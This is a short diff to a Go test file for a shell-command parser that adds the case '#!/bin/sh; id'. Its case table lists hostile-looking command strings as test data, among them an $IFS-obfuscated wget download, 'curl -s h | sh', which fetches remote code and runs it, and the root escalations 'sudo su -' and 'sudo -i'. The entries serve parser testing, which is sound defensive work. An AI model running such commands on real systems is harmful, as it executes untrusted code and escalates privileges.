@@ -48,6 +48,7 @@ func TestParse(t *testing.T) {
 		`\wget$IFS$9http://h/x`:                     "wget(http://h/x)",
 		"sudo -u root nohup ./x >/dev/null 2>&1 &":  "sudo+nohup+x>/dev/null>&1",
 		"sudo su -":                                 "sudo+su(-)",
+		"#!/bin/sh; id":                             "id",
 		"sudo -i":                                   "sudo(-i)",
 		"sudo reboot":                               "sudo+reboot",
 		"timeout 5 env A=1 LC_ALL=C curl -s h | sh": "timeout+env+curl(-s h); sh<0",
